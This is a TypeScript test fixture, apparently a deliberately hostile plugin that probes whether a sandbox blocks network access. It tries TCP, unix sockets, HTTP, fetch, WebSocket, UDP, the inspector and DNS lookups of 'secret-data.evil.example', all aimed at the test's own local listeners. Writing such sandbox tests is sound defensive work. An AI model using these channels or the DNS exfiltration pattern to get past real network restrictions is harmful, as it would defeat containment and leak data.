import { createSocket } from 'node:dgram'
import { lookup, promises, Resolver } from 'node:dns'
import { once } from 'node:events'
import { get } from 'node:http'
import { connect as connectHttp2 } from 'node:http2'
import inspector from 'node:inspector'
import { connect, createServer, type NetConnectOpts } from 'node:net'
import { promisify } from 'node:util'
import { attempts, evil } from '../evil-plugin.ts'

const said = async (options: NetConnectOpts): Promise<string> => {
  const socket = connect(options)
  await once(socket, 'connect')
  socket.write('evil')
  return 'connected'
}

// A refusal that nobody waits for any more must not end it before it has tried everything.
process.on('uncaughtException', () => undefined)
process.on('unhandledRejection', () => undefined)

/** Speaks to whoever listens on this machine: listeners and a resolver of the test's own, which count who comes. Nothing leaves the machine. */
export default evil('network', (_, { tcp = 0, udp = 0, dns = 0, unix = '' }) => attempts({
  'TCP': async () => said({ port: tcp, host: '127.0.0.1' }),
  'TCP by name': async () => said({ port: tcp, host: 'localhost' }),
  'TCP on IPv6': async () => said({ port: tcp, host: '::ffff:127.0.0.1' }),
  'a unix socket': async () => said({ path: unix }),
  'an abstract unix socket': async () => said({ path: `\0${unix}` }),
  'http': async () => once(get({ port: tcp, host: '127.0.0.1' }), 'response'),
  'http2': async () => once(connectHttp2(`http://127.0.0.1:${tcp}`), 'connect'),
  'fetch': async () => (await fetch(`http://127.0.0.1:${tcp}/evil`)).status,
  'WebSocket': async () => { const socket = new WebSocket(`ws://127.0.0.1:${tcp}/evil`); await new Promise((resolve, reject) => { socket.onopen = resolve; socket.onerror = () => { reject(new Error('refused')) } }); return 'open' },
  'UDP': async () => { const socket = createSocket('udp4'); await promisify(socket.send.bind(socket) as (text: string, port: number, host: string, done: (error: Error | null) => void) => void)('evil', udp, '127.0.0.1'); return 'sent' },
  'a name, at a resolver': async () => {
    const resolver = new Resolver({ timeout: 200, tries: 1 })
    resolver.setServers([`127.0.0.1:${dns}`])
    return promisify(resolver.resolve4.bind(resolver) as (name: string, done: (error: Error | null, found: string[]) => void) => void)('secret-data.evil.example')
  },
  'a name, at the machine’s': async () => promisify(lookup)('localhost'),
  'a name, by promises': async () => { promises.setServers([`127.0.0.1:${dns}`]); return promises.resolveTxt('secret-data.evil.example') },
  'listening': async () => { const server = createServer().listen(0, '127.0.0.1'); await once(server, 'listening'); return 'listens' },
  'the inspector': () => { inspector.open(0, '127.0.0.1'); return inspector.url() },
}), { callMs: 12_000 })
